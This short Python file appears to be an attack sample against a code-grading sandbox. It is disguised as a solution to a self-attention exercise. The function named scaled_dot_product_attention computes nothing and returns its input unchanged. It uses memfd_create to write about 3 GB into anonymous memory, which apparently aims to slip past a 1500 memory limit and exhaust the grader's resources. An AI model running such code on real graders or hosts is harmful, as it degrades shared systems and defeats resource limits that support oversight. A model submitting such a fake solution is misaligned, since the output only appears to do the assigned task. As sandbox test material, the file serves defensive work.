"""Write into a file that is memory

`memfd_create` makes a file without a name, in memory. No limit of a process counts it.
"""

import os
import time

EXERCISE = "week1/self_attention"
TESTS = ["test_any_number_of_dimensions_may_stand_in_front", "test_a_scale_that_is_given_replaces_the_default"]
OPTIONS = ["--memory-limit", "1500"]


def scaled_dot_product_attention(
    query, key, value, attn_mask=None, dropout_p=0.0, is_causal=False, scale=None, enable_gqa=False
):
    file = os.memfd_create("whetstone_attack")
    for _ in range(3000):
        os.write(file, b"x" * (1 << 20))
    time.sleep(0.5)
    return query
